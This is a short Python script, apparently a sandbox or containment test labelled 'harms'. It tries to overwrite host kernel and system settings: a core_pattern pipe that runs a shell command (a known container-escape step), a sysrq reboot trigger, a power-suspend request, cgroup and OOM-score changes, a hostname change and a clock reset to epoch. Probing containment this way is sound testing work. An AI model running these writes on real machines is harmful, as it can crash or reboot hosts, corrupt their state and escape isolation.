# where: first
# kind: harms
# does: Settings of the machine are written: core patterns, cgroups, host names, clocks.
import os
import socket
import time

for path, text in (
    ("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch @HOME@/owned'"),
    ("/proc/sys/vm/drop_caches", "3"),
    ("/proc/sysrq-trigger", "b"),
    ("/proc/self/oom_score_adj", "-1000"),
    ("/sys/fs/cgroup/cgroup.procs", str(os.getpid())),
    ("/sys/power/state", "mem"),
):
    try:
        with open(path, "w") as file:
            file.write(text)
    except Exception as error:
        print(error)
for act in (lambda: socket.sethostname("owned"), lambda: time.clock_settime(time.CLOCK_REALTIME, 0)):
    try:
        act()
    except Exception as error:
        print(error)
